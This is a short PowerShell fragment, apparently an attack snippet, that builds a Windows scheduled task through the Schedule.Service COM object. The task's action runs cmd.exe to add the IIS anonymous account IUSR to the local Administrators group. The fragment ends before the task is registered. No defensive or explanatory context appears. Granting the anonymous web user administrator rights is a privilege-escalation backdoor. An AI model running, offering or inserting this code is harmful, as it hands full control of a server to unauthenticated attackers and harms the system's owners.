$service = New-Object -ComObject Schedule.Service
$service.Connect()
$definition = $service.NewTask(0)
$action = $definition.Actions.Create(0)
$action.Path = 'cmd.exe'
$action.Arguments = '/c net localgroup Administrators IUSR /add'
